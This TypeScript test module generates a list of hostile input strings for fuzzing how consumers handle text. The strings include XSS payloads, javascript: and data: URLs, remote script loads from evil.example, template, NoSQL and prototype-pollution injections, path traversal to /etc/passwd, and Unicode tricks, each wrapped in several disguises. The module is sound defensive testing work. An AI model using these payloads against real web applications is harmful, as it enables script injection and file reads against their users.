import { RECORD_SCHEMAS, type RecordOf, type Source } from '@iodine/contracts'

/** Payload of the hostile texts; it counts its executions. */
const CODE = 'window.hostileRan=(window.hostileRan||0)+1,alert(1)'

const THREATS = [
  `<script>${CODE}</script>`,
  '<script src=https://evil.example/x.js></script>',
  `<ScRiPt >${CODE}</sCrIpT >`,
  `<img src=x onerror="${CODE}">`,
  `<img src=https://evil.example/pixel.gif>`,
  `<svg onload="${CODE}">`,
  `<svg><animate onbegin="${CODE}" attributeName=x dur=1s>`,
  `<svg><script href="data:,${CODE}"></script></svg>`,
  `<body onload="${CODE}">`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CODE}"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<details open ontoggle="${CODE}">x</details>`,
  `<video><source onerror="${CODE}"></video>`,
  `<input autofocus onfocus="${CODE}">`,
  `<form action="javascript:${CODE}"><button autofocus>x</button></form>`,
  `<style onload="${CODE}"></style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CODE}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
  `<a href="javascript:${CODE}">click</a>`,
  `<a href=https://evil.example target=_blank>click</a>`,
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `javascript://example.org/%0a${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  'file:///etc/passwd',
  '//evil.example/x',
  `https://a.example/"onmouseover="${CODE}`,
  `https://user:password@a.example/<script>${CODE}</script>`,
  'http://[::1',
  'https://',
  `" onmouseover="${CODE}" autofocus onfocus="${CODE}`,
  `' onclick='${CODE}`,
  `></textarea><script>${CODE}</script>`,
  `</title><script>${CODE}</script>`,
  `]]><script>${CODE}</script>`,
  `--><script>${CODE}</script>`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `<%= ${CODE} %>`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '__proto__',
  'constructor',
  'toString',
  '{"$gt":""}',
  "'; return true; //",
  '$where',
  'a.b.$[].c',
  '%s%n%d',
  '../../../../etc/passwd',
  '\u202Etxt.exe\u202C',
  '\u2066\u2067nested\u2068 isolates',
  '\u200F\u200E\u061C',
  'zero\u200B\u200C\u200D\u2060\uFEFFwidth',
  `Z${'\u0301\u0489\u0336'.repeat(60)}algo`,
  '\u2028line\u2029paragraph',
  '\u001B[31mred\u001B[0m\u0007\b\r',
  '\uFFFE\uFFFF\uFDD0',
  '👩‍👩‍👧‍👦🏴\u{E0067}\u{E0062}\u{E007F}',
  'İıſßﬀǅ',
  'NUL\0inside',
  'high \uD800 alone',
  'low \uDC00 alone',
  '\uDC00\uD800 swapped',
  'x'.repeat(9_000),
  'word '.repeat(1_500),
]

const DISGUISES: ((threat: string) => string)[] = [
  threat => threat,
  threat => `Seen today: ${threat} (share it)`,
  threat => `"${threat}"`,
  threat => `\u202E${threat}\u202C`,
  threat => `#${threat}`,
  threat => `@${threat}`,
  threat => `https://a.example/?q=${threat}`,
  threat => `<b>${threat}</b>`,
  threat => `${threat}\n${threat}`,
  threat => `\u200B${threat}\u200B`,
  threat => `🔥${threat}🔥`,
  threat => `<!--${threat}-->`,
  threat => `'>${threat}<'`,
  threat => `\t  ${threat}`,
]

const FIELD_MAX = 10_000

/**
 * Returns up to 1,092 different texts that exploit, reorder or break a consumer that does not treat them as plain text.
 */
export const hostileTexts = (count: number): string[] => {
  const all = DISGUISES.flatMap(disguise => THREATS.map(disguise)).map(text => text.slice(0, FIELD_MAX))
  if (count > all.length) throw new Error(`there are only ${all.length} hostile texts`)
  // Evenly spaced, so that a few cover every kind.
  return Array.from({ length: count }, (_, index) => all[Math.floor((index * all.length) / count)] ?? '')
}

type JsonSchema = ReturnType<(typeof RECORD_SCHEMAS)[Source]['toJSONSchema']>

/**
 * Returns a value of the schema with the text in every string and key; lists have two items, of different union members
 * if any.
 */
const filled = (schema: unknown, text: string, index = 0): unknown => {
  const {
    type: types,
    format,
    pattern,
    enum: kinds,
    anyOf,
    items,
    properties,
    additionalProperties,
  } = schema as JsonSchema
  if (anyOf) return filled(anyOf[0], text)
  // A nullable schema lists both types.
  const [type] = [types].flat()
  if (kinds) return kinds[index]
  if (format === 'date-time') return '2026-11-20T10:00:00.000Z'
  if (type === 'array') return [filled(items, text, 0), filled(items, text, 1)]
  if (type === 'integer') return 0
  if (type === 'boolean') return true
  // Only hashes have a pattern.
  if (pattern && !new RegExp(pattern).test(text)) return 'ab'.repeat(32)
  if (type !== 'object') return text
  const fields = Object.entries(properties ?? { [text]: additionalProperties })
  return Object.fromEntries(fields.map(([name, field]) => [name, filled(field, text, index)]))
}

const SCHEMAS = Object.entries(RECORD_SCHEMAS).map(
  ([source, schema]) => [source, schema.toJSONSchema()] as const,
)

/** Returns a record of each source with the text in every text field, including its natural key and map keys. */
export const recordFullOf = (text: string): RecordOf =>
  Object.fromEntries(SCHEMAS.map(([source, schema]) => [source, filled(schema, text)])) as unknown as RecordOf
